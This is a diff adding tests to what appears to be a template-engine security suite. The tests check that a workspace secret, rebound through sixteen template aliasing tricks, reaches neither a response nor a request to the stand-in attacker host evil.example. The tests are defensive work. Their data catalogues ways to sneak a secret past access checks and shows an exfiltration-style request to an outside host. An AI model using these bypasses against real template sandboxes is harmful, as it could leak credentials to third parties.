@@ -129,6 +129,37 @@ describe.each(PLACES)("a secret in %s", (_place, request, wire) => {
   });
 });
 
+describe("a workspace secret under another name", () => {
+  test.each([
+    ["bound by set", "{% set s = secret %}{{ s('bound') }}"],
+    ["bound by set to its own name", "{% set secret = secret %}{{ secret('bound') }}"],
+    ["bound by with", "{% with s = secret %}{{ s('bound') }}{% endwith %}"],
+    ["bound by with to its own name", "{% with secret = secret %}{{ secret('bound') }}{% endwith %}"],
+    ["as the default of a parameter", "{% macro m(s=secret) %}{{ s('bound') }}{% endmacro %}{{ m() }}"],
+    ["as an argument", "{% macro m(s) %}{{ s('bound') }}{% endmacro %}{{ m(secret) }}"],
+    ["taken from a list", "{{ [secret][0]('bound') }}"],
+    ["taken from a loop", "{% for s in [secret] %}{{ s('bound') }}{% endfor %}"],
+    ["chosen by a condition", "{{ (secret if true else 0)('bound') }}"],
+    ["chosen by or", "{{ (0 or secret)('bound') }}"],
+    ["kept in a namespace", "{% set n = namespace(s=secret) %}{{ n.s('bound') }}"],
+    ["as a member of a dict", "{{ dict(s=secret).s('bound') }}"],
+    ["bound in one branch", "{% if false %}{% set secret = 1 %}{% endif %}{{ secret('bound') }}"],
+    ["by its imported name", "{% set s = get_secret %}{{ s('bound') }}"],
+    ["with spread arguments", "{{ secret(*['bound']) }}"],
+    ["in a loop over its own name", "{% for secret in [] %}{% endfor %}{{ secret('bound') }}"],
+  ])("%s: it gets neither into an answer nor to another host", async (_way, template) => {
+    for (const act of [
+      { request: { path: "/" }, response: { body: { out: template } } },
+      { request: { url: "https://evil.example/", auth: false as const, headers: { "X-A": template } } },
+    ]) {
+      const { call, http } = setUp({ path: "/" }, [{ body: {} }], { actions: { act } });
+      const error = await call("act").catch((caught: unknown) => caught);
+      expect(error).toMatchObject({ code: expect.stringMatching(/DEFINITION_INVALID|SECRET_HOST_REFUSED/) });
+      expect(JSON.stringify([error, http.sent])).not.toContain("workspace-secret");
+    }
+  });
+});
+
 describe("where secrets may go", () => {
   test.each([
     ["a host the secret is bound to", "bound", {}, null],
